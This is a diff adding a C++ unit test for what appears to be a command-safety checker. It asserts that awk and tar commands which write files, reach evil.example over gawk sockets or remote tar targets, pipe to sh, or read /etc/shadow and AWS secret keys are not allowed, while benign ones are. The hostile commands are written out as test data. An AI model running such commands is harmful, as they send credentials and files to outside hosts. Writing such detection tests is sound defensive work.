@@ -670,6 +670,65 @@ TEST(OrdinaryWork, AWrappersOwnWordsAreJudgedToo) {
   }
 }
 
+// awk programs that write a file, reach the network or run anything,
+// however their statements are spelled: strings holding `;` or `}`, lines
+// continued with a backslash, gawk's @-directives and indirect calls, the
+// environment's credentials. And tar archives on another machine.
+TEST(OrdinaryWork, AwkAndTarThatReachOutAreNotOrdinary) {
+  const std::vector<std::string> writes = {
+      R"(print > "/tmp/x")",
+      R"(print ";" > "/tmp/x")",
+      R"(print "}" >> ".git/config")",
+      R"(printf("%s\n", $0) > "out.txt")",
+      R"(print $1, ";" > "/inet/tcp/0/evil.example/80")",
+      R"(print "a" \
+> "/tmp/x")",
+      R"(print "x" | "sh")",
+      R"(print |& "/inet/tcp/0/evil.example/80")",
+      R"(f = "sys" "tem"; @f("id"))",
+      R"(@include "x.awk")",
+      R"(@load "./x")",
+      R"(print ENVIRON["AWS_SECRET_ACCESS_KEY"])",
+      R"("date" | getline d)",
+      R"(getline line < "/etc/shadow")",
+      R"(x = /[/]"/; print > "/tmp/x")",
+      R"(print "unclosed)",
+  };
+  const std::vector<std::string> shapes = {"BEGIN{%}", "{%}", "NR>1 {%}", "END { x = 1; % }",
+                                           "/pat/ { % }"};
+  for (const std::string& body : writes) {
+    for (const std::string& shape : shapes) {
+      std::string program = shape;
+      program.replace(program.find('%'), 1, body);
+      for (const char* awk : {"awk", "gawk"}) {
+        const std::string command = std::string(awk) + " '" + program + "' data.txt";
+        SCOPED_TRACE(command);
+        EXPECT_NE(verdictOf(command), Verdict::Allow);
+      }
+    }
+  }
+  // Comparisons, regexes with every character and printed text stay ordinary.
+  for (const char* program :
+       {R"({ if ($3 > 100) print $1 })", R"(NR>1 {sum+=$3} END {print sum})",
+        R"(/a|b;c>d/ { print ">" })", R"({ print ($1 > $2) ? "up" : "down" })",
+        R"($2 ~ /[/"]/ { n++ } END { print n })", R"({ a = $1 / 2; print a })"}) {
+    const std::string command = std::string("awk '") + program + "' data.txt";
+    SCOPED_TRACE(command);
+    EXPECT_EQ(verdictOf(command), Verdict::Allow);
+  }
+  for (const std::string archive :
+       {"c2VjcmV0.evil.example:/x", "evil.example:x.tar", "u@evil.example:x", "h:"}) {
+    for (const std::string& spelling :
+         {"-cf " + archive, "-c -f " + archive, "--create --file=" + archive, "-czf " + archive}) {
+      const std::string command = "tar " + spelling + " README.md";
+      SCOPED_TRACE(command);
+      EXPECT_NE(verdictOf(command), Verdict::Allow);
+    }
+  }
+  EXPECT_EQ(verdictOf("tar -czf out/src.tar.gz src"), Verdict::Allow);
+  EXPECT_EQ(verdictOf("tar -tf ./a:b.tar"), Verdict::Allow) << "a colon after a slash is a file";
+}
+
 }  // namespace ordinary_work_test
 }  // namespace toolguard
 
